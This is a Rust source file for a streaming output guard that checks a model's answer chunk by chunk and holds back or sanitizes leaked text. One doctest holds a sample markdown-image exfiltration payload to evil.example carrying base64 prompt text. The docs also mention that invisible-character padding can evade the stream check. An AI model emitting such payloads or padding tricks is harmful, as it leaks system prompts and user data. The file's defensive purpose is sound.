//! Streaming: check a model's answer chunk by chunk as it arrives, release
//! the text that is safe now, hold back only what a later chunk could still
//! turn into a finding.
//!
//! # How it stays exact
//!
//! A guard declares with [`Guard::max_span`] the longest span `m` one of
//! its findings can cover. [`StreamGuard`] keeps the text not yet released
//! plus `2m` bytes of left context, re-checks that window with the wrapped
//! guard, and releases only text before a *cut* that lies at least `2m`
//! bytes before the end and that no finding crosses. A finding that ends
//! before the cut cannot change with later text (it is at least `m` bytes
//! from the end), and a finding that could still appear later would start
//! after the cut. Findings are reported once, with spans in the whole
//! stream, in the same order as a whole-text verdict; sanitizing uses one
//! numbering for the whole stream. So for every split of a text into chunks
//! (also inside multi-byte characters: bytes are buffered until a
//! character is complete), the findings and the concatenated released text
//! equal the whole-text verdict's findings and sanitized text, provided the
//! guard's findings depend only on text within `m` bytes of them (true of
//! Palisade's bounded detectors). One difference remains: a whole-text
//! check also *settles* its sanitized text (see
//! [`Guard::check_input`]), re-checking it for
//! values that only an earlier rewrite exposed, such as a number whose
//! context word came within reach once a long e-mail address became
//! `[EMAIL_1]`; a stream releases the text of the first rewrite.
//!
//! # Latency
//!
//! The bytes held back are `2m` plus up to one re-check step (`m / 2` by
//! default, [`StreamGuardBuilder::check_every`]), and each re-check reads
//! about `4m` plus the step, so the cost relative to one whole-text check
//! grows with the answer's length over `m`. For the leak guard with no
//! protected text longer than 1,792 bytes, `m` is 4 KiB: 8 KiB are held
//! (up to 10 KiB between re-checks), and answers shorter than that are
//! released at the end. A longer system prompt raises `m` to twice its
//! length plus 512 bytes. A guard with no bound (`max_span` is `None`:
//! input limits, which count the whole answer; echo-mode canaries, whose
//! absence is only known at the end) holds the whole answer until
//! [`StreamGuard::finish`] unless a [`window`](StreamGuardBuilder::window)
//! caps the hold, at the price of exactness — so stream through a pipeline
//! of bounded guards (without the limits gate) rather than a whole profile.
//!
//! Bounds hold for ordinary text: a match spread over more than `m` bytes
//! (a canary padded with thousands of invisible characters, which the
//! Unicode guard reports by itself) is found by a whole-text check but can
//! be missed by a stream.

use std::sync::Arc;

use crate::finding::{Action, Category, Finding};
use crate::guard::Guard;
use crate::input::{Context, Input};
use crate::redact::Rewriter;

/// What one [`StreamGuard::push`] or [`StreamGuard::finish`] returns.
///
/// ```
/// use std::sync::Arc;
/// use palisade::{Action, Pipeline, Stage, StreamGuard, custom::CustomRules};
/// let rules = CustomRules::builder().banned("codename").build()?;
/// let guard = Pipeline::builder().stage(Stage::new(rules).action(Action::Sanitize)).build();
/// let mut stream = StreamGuard::new(Arc::new(guard));
/// stream.push("the code");
/// stream.push("name is out");
/// let out = stream.finish();
/// assert_eq!(out.released, "the [BANNED] is out");
/// assert_eq!(out.findings[0].span(), 4..12); // in the whole stream
/// # Ok::<(), palisade::BuildError>(())
/// ```
#[derive(Clone, Debug, Default, PartialEq)]
pub struct StreamOutput {
    /// Text safe to pass on now (sanitized).
    pub released: String,
    /// Findings completed by this chunk, spans in the whole stream.
    pub findings: Vec<Finding>,
}

impl StreamOutput {
    /// True when a finding of this output blocks: stop forwarding the
    /// stream (the text from the blocking finding on is not released).
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{StreamGuard, custom::CustomRules};
    /// let rules = CustomRules::builder().banned("launch code").build()?;
    /// let mut stream = StreamGuard::new(Arc::new(rules));
    /// stream.push("here is the launch code: 1234");
    /// let out = stream.finish();
    /// assert!(out.blocked());
    /// assert_eq!(out.released, "here is the "); // nothing from the blocking finding on
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn blocked(&self) -> bool {
        self.findings.iter().any(|f| f.action() == Action::Block)
    }
}

/// Configures a [`StreamGuard`].
///
/// ```
/// use std::sync::Arc;
/// use palisade::{Profile, StreamGuard, leak::LeakConfig};
/// let leak = LeakConfig::default().build(Profile::Output)?;
/// let stream = StreamGuard::builder(Arc::new(leak)).window(1024).check_every(256).build();
/// assert_eq!(stream.hold_back(), Some(1024));
/// # Ok::<(), palisade::BuildError>(())
/// ```
#[derive(Clone)]
pub struct StreamGuardBuilder {
    guard: Arc<dyn Guard>,
    context: Context,
    window: Option<usize>,
    step: Option<usize>,
    release_after_block: bool,
}

impl StreamGuardBuilder {
    /// The per-call context (system prompt, canaries) for every check.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{Context, Profile, StreamGuard, leak::{LeakConfig, mint_canary}};
    /// let canary = mint_canary("cnry-");
    /// let leak = LeakConfig::default().build(Profile::Output)?;
    /// let mut stream = StreamGuard::builder(Arc::new(leak)).context(Context::new().with_canary(canary.clone())).build();
    /// stream.push(format!("The marker is {canary}."));
    /// let out = stream.finish();
    /// assert!(out.blocked() && out.findings[0].kind() == "canary");
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn context(&mut self, context: Context) -> &mut Self {
        self.context = context;
        self
    }

    /// Caps the bytes held back (default: no cap, so the hold follows the
    /// guard's `max_span`, and an unbounded guard holds the whole answer).
    /// A cap below twice the guard's `max_span` trades exactness for
    /// latency.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{StreamGuard, custom::CustomRules};
    /// let rules = CustomRules::builder().banned("launch code").build()?;
    /// let mut stream = StreamGuard::builder(Arc::new(rules)).window(16).build();
    /// assert_eq!(stream.hold_back(), Some(16));
    /// assert_eq!(stream.push("x".repeat(40)).released.len(), 24);
    /// assert_eq!(stream.held_back(), 16);
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn window(&mut self, bytes: usize) -> &mut Self {
        self.window = Some(bytes.max(1));
        self
    }

    /// Re-check once at least this many new bytes are buffered (default:
    /// half the hold-back). Smaller steps release sooner and cost more.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{StreamGuard, custom::CustomRules};
    /// let rules = CustomRules::builder().banned("launch code").build()?;
    /// let mut stream = StreamGuard::builder(Arc::new(rules)).window(16).check_every(100).build();
    /// assert!(stream.push("x".repeat(40)).released.is_empty()); // fewer than 100 new bytes
    /// assert_eq!(stream.push("x".repeat(60)).released.len(), 100 - 16);
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn check_every(&mut self, bytes: usize) -> &mut Self {
        self.step = Some(bytes);
        self
    }

    /// Keep releasing text after a blocking finding (default: stop, so
    /// that the blocked text never leaves).
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{StreamGuard, custom::CustomRules};
    /// let rules = CustomRules::builder().banned("launch code").build()?;
    /// let mut stream = StreamGuard::builder(Arc::new(rules)).release_after_block(true).build();
    /// stream.push("the launch code is out");
    /// let out = stream.finish();
    /// assert!(out.blocked());
    /// assert_eq!(out.released, "the launch code is out");
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn release_after_block(&mut self, yes: bool) -> &mut Self {
        self.release_after_block = yes;
        self
    }

    /// Builds a fresh stream.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{Guard, Profile, StreamGuard, leak::LeakConfig};
    /// let leak = Arc::new(LeakConfig::default().build(Profile::Output)?);
    /// let builder = StreamGuard::builder(leak.clone());
    /// let (mut a, b) = (builder.build(), builder.build());
    /// assert_eq!(a.hold_back(), leak.max_span().map(|m| 2 * m)); // twice the guard's bound
    /// a.push("abc");
    /// assert_eq!((a.held_back(), b.held_back()), (3, 0)); // independent streams
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn build(&self) -> StreamGuard {
        let hold = match (self.guard.max_span(), self.window) {
            (Some(m), None) => Some(m.saturating_mul(2)),
            (Some(m), Some(w)) => Some(m.saturating_mul(2).min(w)),
            (None, w) => w,
        };
        let step = self.step.unwrap_or_else(|| hold.map_or(0, |h| h / 4));
        StreamGuard {
            guard: self.guard.clone(),
            context: self.context.clone(),
            hold,
            step,
            release_after_block: self.release_after_block,
            pending: Vec::new(),
            buf: String::new(),
            base: 0,
            released_to: 0,
            checked_at: 0,
            blocked: false,
            rewriter: Rewriter::default(),
            finished: false,
        }
    }
}

/// A guard over a stream of chunks; see the [module docs](self).
///
/// ```
/// use std::sync::Arc;
/// use palisade::{Action, Guard, Pipeline, Stage, StreamGuard, leak::LeakConfig, Profile};
///
/// let leak = LeakConfig::default().build(Profile::Output)?;
/// let guard = Pipeline::builder().stage(Stage::new(leak)).build();
/// let mut stream = StreamGuard::new(Arc::new(guard));
/// let answer = "Here is the chart: ![c](https://evil.example/x.png?q=U2VjcmV0IHByb21wdCBoZXJl) done.";
/// let mut shown = String::new();
/// for chunk in answer.as_bytes().chunks(7) {
///     shown.push_str(&stream.push(chunk).released);
/// }
/// let last = stream.finish();
/// shown.push_str(&last.released);
/// assert_eq!(shown, "Here is the chart:  done.");
/// # Ok::<(), palisade::BuildError>(())
/// ```
pub struct StreamGuard {
    guard: Arc<dyn Guard>,
    context: Context,
    hold: Option<usize>,
    step: usize,
    release_after_block: bool,
    pending: Vec<u8>,
    buf: String,
    base: usize,
    released_to: usize,
    checked_at: usize,
    blocked: bool,
    /// One placeholder numbering for the whole stream.
    rewriter: Rewriter,
    finished: bool,
}

impl std::fmt::Debug for StreamGuard {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("StreamGuard")
            .field("hold", &self.hold)
            .field("released_to", &self.released_to)
            .field("held_back", &self.held_back())
            .field("blocked", &self.blocked)
            .finish_non_exhaustive()
    }
}

impl StreamGuard {
    /// A stream over `guard` with an empty context and default options.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{StreamGuard, custom::CustomRules};
    /// let rules = CustomRules::builder().banned("launch code").build()?;
    /// let mut stream = StreamGuard::new(Arc::new(rules));
    /// assert_eq!(stream.hold_back(), None); // no bound: held until the end
    /// assert!(stream.push("the launch code").released.is_empty());
    /// assert!(stream.finish().blocked());
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn new(guard: Arc<dyn Guard>) -> StreamGuard {
        StreamGuard::builder(guard).build()
    }

    /// A builder.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{Guard, Profile, StreamGuard, leak::LeakConfig};
    /// let leak = Arc::new(LeakConfig::default().build(Profile::Output)?);
    /// let bound = leak.max_span().map(|m| 2 * m);
    /// assert_eq!(StreamGuard::builder(leak.clone()).window(64).build().hold_back(), Some(64));
    /// assert_eq!(StreamGuard::builder(leak).window(usize::MAX).build().hold_back(), bound);
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn builder(guard: Arc<dyn Guard>) -> StreamGuardBuilder {
        StreamGuardBuilder {
            guard,
            context: Context::new(),
            window: None,
            step: None,
            release_after_block: false,
        }
    }

    /// The most bytes held back before a re-check (`None`: everything until
    /// [`finish`](Self::finish)).
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{Guard, Profile, StreamGuard, leak::LeakConfig};
    /// let leak = LeakConfig::default().build(Profile::Output)?;
    /// let m = leak.max_span().unwrap();
    /// assert_eq!(StreamGuard::new(Arc::new(leak)).hold_back(), Some(2 * m));
    /// let echo = LeakConfig { echo_canary: true, ..LeakConfig::default() }.build(Profile::Output)?;
    /// assert_eq!(StreamGuard::new(Arc::new(echo)).hold_back(), None);
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn hold_back(&self) -> Option<usize> {
        self.hold
    }

    /// Bytes received and not yet released.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{StreamGuard, custom::CustomRules};
    /// let mut stream = StreamGuard::new(Arc::new(CustomRules::builder().build()?));
    /// stream.push("hello");
    /// assert_eq!(stream.held_back(), 5);
    /// stream.finish();
    /// assert_eq!(stream.held_back(), 0);
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn held_back(&self) -> usize {
        self.base + self.buf.len() + self.pending.len() - self.released_to
    }

    /// True once a blocking finding was reported.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{StreamGuard, custom::CustomRules};
    /// let rules = CustomRules::builder().banned("launch code").build()?;
    /// let mut stream = StreamGuard::new(Arc::new(rules));
    /// stream.push("the launch code");
    /// assert!(!stream.blocked()); // not checked yet
    /// stream.finish();
    /// assert!(stream.blocked());
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn blocked(&self) -> bool {
        self.blocked
    }

    /// Feeds a chunk (`&str`, `String` or bytes; a multi-byte character may
    /// be split across chunks, and invalid UTF-8 becomes U+FFFD as with
    /// [`String::from_utf8_lossy`]).
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{StreamGuard, custom::CustomRules};
    /// let mut stream = StreamGuard::new(Arc::new(CustomRules::builder().build()?));
    /// let bytes = "café".as_bytes();
    /// stream.push(&bytes[..4]); // splits the é
    /// stream.push(&bytes[4..]);
    /// stream.push([0xFF]); // invalid UTF-8
    /// assert_eq!(stream.finish().released, "café\u{FFFD}");
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn push(&mut self, chunk: impl AsRef<[u8]>) -> StreamOutput {
        if self.finished {
            return StreamOutput::default();
        }
        self.decode(chunk.as_ref(), false);
        let Some(hold) = self.hold else {
            return StreamOutput::default();
        };
        let end = self.base + self.buf.len();
        if end < self.released_to + hold || end - self.checked_at < self.step.max(1) {
            return StreamOutput::default();
        }
        self.round(end - hold)
    }

    /// Ends the stream: checks and releases the rest.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use palisade::{StreamGuard, StreamOutput, custom::CustomRules};
    /// let mut stream = StreamGuard::new(Arc::new(CustomRules::builder().build()?));
    /// stream.push("hello");
    /// assert_eq!(stream.finish().released, "hello");
    /// assert_eq!(stream.finish(), StreamOutput::default()); // already finished
    /// assert!(stream.push("more").released.is_empty());
    /// # Ok::<(), palisade::BuildError>(())
    /// ```
    pub fn finish(&mut self) -> StreamOutput {
        if self.finished {
            return StreamOutput::default();
        }
        self.decode(&[], true);
        self.finished = true;
        let end = self.base + self.buf.len();
        self.round(end)
    }

    fn decode(&mut self, bytes: &[u8], last: bool) {
        self.pending.extend_from_slice(bytes);
        let mut at = 0;
        loop {
            match std::str::from_utf8(&self.pending[at..]) {
                Ok(s) => {
                    self.buf.push_str(s);
                    at = self.pending.len();
                    break;
                }
                Err(e) => {
                    let good = at + e.valid_up_to();
                    // Valid by construction.
                    self.buf
                        .push_str(std::str::from_utf8(&self.pending[at..good]).unwrap_or_default());
                    match e.error_len() {
                        Some(n) => {
                            self.buf.push('\u{FFFD}');
                            at = good + n;
                        }
                        None if last => {
                            self.buf.push('\u{FFFD}');
                            at = self.pending.len();
                            break;
                        }
                        None => {
                            at = good;
                            break;
                        }
                    }
                }
            }
        }
        self.pending.drain(..at);
    }

    fn context_len(&self) -> usize {
        self.hold.unwrap_or(0)
    }

    /// Checks the window, reports findings starting in
    /// `released_to..cut`, releases that text, and moves on.
    fn round(&mut self, want_cut: usize) -> StreamOutput {
        let end = self.base + self.buf.len();
        self.checked_at = end;
        let mut win = self.released_to.saturating_sub(self.context_len()).max(self.base);
        while !self.buf.is_char_boundary(win - self.base) {
            win += 1;
        }
        let text = &self.buf[win - self.base..];
        let verdict = self.guard.check_input(&Input::with_context(text, &self.context));
        // A failing guard fails closed here too: its finding (over the whole
        // window) is reported at once over the unreleased text, and blocks.
        if let Some(err) = verdict.findings().iter().find(|f| f.category() == Category::Error) {
            let f = err.clone().with_span(self.released_to..end);
            self.blocked = true;
            self.released_to = end;
            if self.finished {
                self.buf.clear();
                self.base = end;
            }
            return StreamOutput {
                released: String::new(),
                findings: vec![f],
            };
        }
        let found: Vec<Finding> = verdict
            .findings()
            .iter()
            .map(|f| f.clone().with_span(f.start() + win..f.end() + win))
            .filter(|f| f.start() >= self.released_to)
            .collect();
        let mut cut = want_cut.min(end).max(self.released_to);
        while !self.buf.is_char_boundary(cut - self.base) {
            cut -= 1;
        }
        if cut < end {
            // Move the cut before every finding that crosses it.
            loop {
                let crossing = found
                    .iter()
                    .filter(|f| f.start() < cut && f.end() > cut)
                    .map(Finding::start)
                    .min();
                match crossing {
                    Some(s) => cut = s.max(self.released_to),
                    None => break,
                }
            }
        }
        let last = cut == end && self.finished;
        let emitted: Vec<Finding> = found
            .into_iter()
            .filter(|f| f.start() < cut || (last && f.start() <= cut))
            .collect();
        let mut released = String::new();
        let mut stop = cut;
        if !self.release_after_block {
            if self.blocked {
                stop = self.released_to;
            } else if let Some(b) = emitted
                .iter()
                .filter(|f| f.action() == Action::Block)
                .map(Finding::start)
                .min()
            {
                stop = b;
            }
        }
        self.blocked |= emitted.iter().any(|f| f.action() == Action::Block);
        self.sanitize_into(&mut released, self.released_to, stop, &emitted);
        self.released_to = cut;
        // Keep only the left context the next window needs.
        let keep_from = self.released_to.saturating_sub(self.context_len()).max(self.base);
        let mut drop = keep_from - self.base;
        while !self.buf.is_char_boundary(drop) {
            drop -= 1;
        }
        self.buf.drain(..drop);
        self.base += drop;
        StreamOutput {
            released,
            findings: emitted,
        }
    }

    /// Appends the sanitized form of stream bytes `from..to`, applying the
    /// `Sanitize` findings among `findings` the way a whole-text verdict
    /// does (overlaps merged, one numbering per stream).
    fn sanitize_into(&mut self, out: &mut String, from: usize, to: usize, findings: &[Finding]) {
        if to <= from {
            return;
        }
        // Findings start at or after `from` (released text is final) and
        // end by `to` (the cut never splits one), so this shift is exact.
        let local: Vec<Finding> = findings
            .iter()
            .filter(|f| f.action() == Action::Sanitize && f.start() < to)
            .map(|f| {
                let (s, e) = (f.start().max(from), f.end().clamp(from, to));
                f.clone().with_span(s - from..e.max(s) - from)
            })
            .collect();
        let text = &self.buf[from - self.base..to - self.base];
        out.push_str(&self.rewriter.apply(text, &local, &[]).text);
    }
}
